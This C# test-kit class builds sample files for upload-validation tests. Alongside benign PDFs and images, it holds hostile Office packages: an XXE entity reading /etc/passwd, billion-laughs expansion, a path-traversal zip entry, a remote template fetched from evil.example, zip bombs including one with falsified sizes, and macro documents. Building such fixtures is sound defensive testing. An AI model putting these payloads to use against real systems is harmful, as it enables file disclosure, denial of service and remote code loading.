using System.IO.Compression;
using System.Text;
using SkiaSharp;

namespace TamKy.NTM.Tests.Kit;

/// <summary>Files that are sound, and files made to harm; every one is built here.</summary>
public static class HostileFiles
{
    private const string WordMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

    public static byte[] Pdf(string words = "nội dung") => Encoding.UTF8.GetBytes($"%PDF-1.4\n1 0 obj <</Type/Catalog>> endobj % {words}\ntrailer <</Root 1 0 R>>\n%%EOF\n");

    public static byte[] Picture(SKEncodedImageFormat format, int width = 60, int height = 40)
    {
        using var bitmap = new SKBitmap(width, height);
        using (var canvas = new SKCanvas(bitmap))
        {
            canvas.Clear(SKColors.ForestGreen);
            canvas.DrawCircle(width / 3f, height / 2f, height / 4f, new SKPaint { Color = SKColors.White });
        }

        return bitmap.Encode(format, 95).ToArray();
    }

    public static byte[] Word(string body = "<w:p/>", string contentType = WordMain, params (string Name, byte[] Content)[] more) => Zip(
    [
        ("[Content_Types].xml", Bytes($"""<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="{contentType}"/></Types>""")),
        ("word/document.xml", Bytes($"""<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>""")),
        .. more,
    ]);

    public static byte[] Excel() => Zip(
    [
        ("[Content_Types].xml", Bytes("""<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>""")),
        ("xl/workbook.xml", Bytes("<workbook/>")),
    ]);

    public static byte[] WithMacro() => Word(contentType: WordMain, more: ("word/vbaProject.bin", [1, 2, 3]));

    public static byte[] MacroType() => Word(contentType: "application/vnd.ms-word.document.macroEnabled.main+xml");

    /// <summary>Reads a file of the server into the text, where a reader follows external entities.</summary>
    public static byte[] Xxe() => Word(more: ("word/styles.xml", Bytes("""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>""")));

    public static byte[] BillionLaughs() => Word(more: ("word/styles.xml", Bytes("""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>""")));

    public static byte[] PathInside() => Word(more: ("../../web/evil.xml", Bytes("<x/>")));

    public static byte[] RemoteTemplate() => Word(more: ("word/_rels/settings.xml.rels", Bytes(
        """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>""")));

    /// <summary>200 MB of zeros in a hundredth of that.</summary>
    public static byte[] Bomb() => Word(more: ("word/media/a.bin", new byte[200 * 1024 * 1024]));

    /// <summary>The bomb, but its directory says that it is small.</summary>
    public static byte[] LyingBomb()
    {
        var bytes = Bomb();
        var size = BitConverter.GetBytes(200 * 1024 * 1024);
        for (var at = bytes.AsSpan().IndexOf(size); at >= 0; at = bytes.AsSpan().IndexOf(size))
        {
            BitConverter.GetBytes(1000).CopyTo(bytes, at);
        }

        return bytes;
    }

    public static byte[] ManyEntries() => Zip([.. Enumerable.Range(0, 5_000).Select(number => ($"word/{number}.bin", Array.Empty<byte>()))]);

    public static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Zip(IReadOnlyList<(string Name, byte[] Content)> entries)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create))
        {
            foreach (var (name, content) in entries)
            {
                using var entry = zip.CreateEntry(name, CompressionLevel.Fastest).Open();
                entry.Write(content);
            }
        }

        return bytes.ToArray();
    }
}
